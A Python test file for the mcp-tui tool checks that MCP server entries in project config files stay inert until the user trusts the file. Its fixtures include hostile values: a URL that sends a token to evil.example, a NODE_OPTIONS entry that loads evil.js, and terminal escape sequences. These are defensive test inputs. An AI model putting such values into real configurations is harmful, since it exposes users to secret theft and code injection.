"""Files that come with a project start nothing before the person trusts them."""

from __future__ import annotations

import json
import os
import stat
from pathlib import Path

import pytest

from mcp_tui.config import paths
from mcp_tui.config.clients.places import project_files
from mcp_tui.config.files import read_document
from mcp_tui.config.trust import read_trust, set_trust
from mcp_tui.core.errors import EXIT_CODES, AppError
from tests.config.conftest import Machine, named

MCP_JSON = {"mcpServers": {"tool": {"command": "run-me", "args": ["--token", "${TOKEN}"], "env": {"A": "${NOT_SET}"}}}}


def trust(file: Path) -> None:
    set_trust(file, read_document(file).digest)


@pytest.mark.parametrize(
    ("name", "content"),
    [
        (".mcp.json", MCP_JSON),
        (".cursor/mcp.json", MCP_JSON),
        (".vscode/mcp.json", {"servers": MCP_JSON["mcpServers"]}),
        (".codex/config.toml", '[mcp_servers.tool]\ncommand = "run-me"\nargs = ["--token", "x"]\n'),
    ],
)
def test_servers_of_a_project_file_wait_for_trust(machine: Machine, name: str, content: object) -> None:
    file = machine.write(f"project/{name}", content)
    config = machine.load()
    spec = named(config, "tool")
    assert spec.needs_trust
    assert spec.problem is not None
    assert EXIT_CODES[spec.problem.kind] == 3
    assert f"~/project/{name}:" in spec.problem.detail
    assert "would run `run-me --token '***'`" in spec.problem.detail
    assert f"mcp-tui config trust ~/project/{name}" in spec.problem.hint
    assert config.untrusted[0].path == file
    assert not config.untrusted[0].changed


def test_nothing_of_an_untrusted_file_is_expanded(machine: Machine) -> None:
    servers = {
        "a": {"command": "${TOKEN}", "args": ["${TOKEN}"], "env": {"K": "${TOKEN}"}, "cwd": "${TOKEN}"},
        "b": {"url": "https://evil.example/${TOKEN}", "headers": {"X": "${TOKEN}"}},
    }
    machine.write("project/.mcp.json", {"mcpServers": servers})
    config = machine.load()
    assert "tok-very-secret" not in str([(s.command, s.args, s.env, s.cwd, s.url, s.headers) for s in config.servers])
    assert all(spec.needs_trust for spec in config.servers)


def test_the_variables_a_server_would_get_are_named(machine: Machine) -> None:
    env = {"NODE_OPTIONS": "--require ./evil.js", "API_KEY": "tok-very-secret"}
    machine.write("project/.mcp.json", {"mcpServers": {"a": {"command": "npx", "env": env}}})
    problem = named(machine.load(), "a").problem
    assert problem is not None
    assert "would run `npx` with API_KEY, NODE_OPTIONS set" in problem.detail
    assert "secret" not in problem.line()


def test_an_untrusted_file_makes_us_open_no_other_file(machine: Machine) -> None:
    os.mkfifo(machine.project / "pipe")
    machine.write("project/.mcp.json", {"mcpServers": {"a": {"command": "x", "envFile": "pipe"}}})
    assert named(machine.load(), "a").needs_trust


def test_a_trusted_file_counts_before_own_files(machine: Machine) -> None:
    machine.own('[servers.tool]\ncommand = "own"')
    file = machine.write("project/.mcp.json", {"mcpServers": {"tool": {"command": "project"}}})
    trust(file)
    config = machine.load()
    assert named(config, "tool").command == "project"
    assert config.untrusted == ()
    assert config.shadowed[0][1].endswith("config.toml:1")


def test_an_untrusted_file_takes_no_name_from_an_entry_that_works(machine: Machine) -> None:
    machine.own('[servers.tool]\ncommand = "own"\n[defaults]\nimport = ["cursor"]')
    machine.write(".cursor/mcp.json", {"mcpServers": {"other": {"command": "imported"}}})
    servers = {"tool": {"command": "evil"}, "other": {"command": "evil"}, "new": {"command": "evil"}}
    machine.write("project/.mcp.json", {"mcpServers": servers})
    config = machine.load()
    assert [named(config, name).command for name in ("tool", "other", "new")] == ["own", "imported", "evil"]
    assert [name for name, _ in config.shadowed] == ["tool", "other"]
    assert config.untrusted[0].servers == ("tool", "other", "new")


def test_an_edit_ends_the_trust(machine: Machine) -> None:
    file = machine.write("project/.mcp.json", {"mcpServers": {"tool": {"command": "good"}}})
    trust(file)
    assert named(machine.load(), "tool").problem is None
    machine.write("project/.mcp.json", {"mcpServers": {"tool": {"command": "bad"}}})
    config = machine.load()
    spec = named(config, "tool")
    assert spec.needs_trust
    assert config.untrusted[0].changed
    assert spec.problem is not None
    assert "changed since it was trusted" in spec.problem.detail
    trust(file)
    assert named(machine.load(), "tool").problem is None


def test_trust_can_be_taken_back(machine: Machine) -> None:
    file = machine.write("project/.mcp.json", {"mcpServers": {"tool": {"command": "good"}}})
    trust(file)
    assert set_trust(file, None)
    assert named(machine.load(), "tool").needs_trust
    assert not set_trust(file, None)


def test_a_copy_of_a_trusted_file_elsewhere_is_not_trusted(machine: Machine) -> None:
    content = {"mcpServers": {"tool": {"command": "good"}}}
    trust(machine.write("other/.mcp.json", content))
    machine.write("project/.mcp.json", content)
    assert named(machine.load(), "tool").needs_trust


def test_the_store_is_private_and_holds_hashes_only(machine: Machine) -> None:
    trust(machine.write("project/.mcp.json", MCP_JSON))
    store = paths.trust_file()
    assert stat.S_IMODE(store.stat().st_mode) == 0o600
    (entry,) = json.loads(store.read_text("utf-8"))["files"].values()
    assert list(entry) == ["sha256"]


@pytest.mark.parametrize("text", ["", "[]", '{"files": {"/x": 5}}', '{"files": {"/x": {}}}', "\x00"])
def test_a_broken_store_trusts_nothing_and_says_so(machine: Machine, text: str) -> None:
    file = machine.write("project/.mcp.json", {"mcpServers": {"tool": {"command": "good"}}})
    trust(file)
    paths.trust_file().write_text(text)
    config = machine.load()
    assert named(config, "tool").needs_trust
    assert "trusted.json cannot be read" in config.problems[0].detail
    trust(file)
    assert read_trust().holds(file, read_document(file).digest)


def test_a_project_file_named_on_the_command_line_needs_no_trust(machine: Machine) -> None:
    machine.write("project/.mcp.json", {"mcpServers": {"tool": {"command": "good"}}})
    config = machine.load(".mcp.json")
    assert named(config, "tool").problem is None
    assert config.untrusted == ()
    assert config.shadowed == ()


def test_in_the_home_directory_a_user_file_is_no_project_file(machine: Machine) -> None:
    machine.write(".cursor/mcp.json", {"mcpServers": {"tool": {"command": "mine"}}})
    machine.write(".mcp.json", {"mcpServers": {"other": {"command": "x"}}})
    places = type(machine.places)(machine.home, machine.home, machine.environ)
    names = [file.path.relative_to(machine.home).as_posix() for file in project_files(places)]
    assert names == [".mcp.json", ".vscode/mcp.json"]


def test_project_files_read_by_import_need_trust_too(machine: Machine) -> None:
    machine.own('[defaults]\nimport = ["gemini", "claude-code"]')
    machine.write("project/.gemini/settings.json", {"mcpServers": {"g": {"command": "x"}}})
    file = machine.write("project/.claude/settings.json", {"mcpServers": {"c": {"command": "x"}}})
    config = machine.load()
    assert [(spec.name, spec.needs_trust) for spec in config.servers] == [("g", True), ("c", True)]
    trust(file)
    assert [(spec.name, spec.needs_trust) for spec in machine.load().servers] == [("c", False), ("g", True)]


def test_a_disabled_or_bad_entry_keeps_its_own_state(machine: Machine) -> None:
    servers = {"off": {"command": "x", "disabled": True}, "bad": {"command": 5}}
    machine.write("project/.cursor/mcp.json", {"mcpServers": servers})
    config = machine.load()
    assert named(config, "off").disabled
    problem = named(config, "bad").problem
    assert problem is not None
    assert "must be a text" in problem.detail


def test_hostile_texts_of_an_untrusted_file_are_clean(machine: Machine) -> None:
    servers = {"a\x1b[2J": {"command": "x\x1b]52;c;aGk=\x07", "args": ["\u202ey\n"]}}
    machine.write("project/.mcp.json", {"mcpServers": servers})
    problem = machine.load().servers[0].problem
    assert problem is not None
    assert not any(c in problem.line() for c in "\x1b\x07\u202e\n")


def test_a_disk_that_refuses_is_an_error(machine: Machine) -> None:
    file = machine.write("project/.mcp.json", MCP_JSON)
    paths.state_dir().parent.mkdir(parents=True, exist_ok=True)
    paths.state_dir().write_text("in the way")
    with pytest.raises(AppError, match="Cannot write"):
        trust(file)
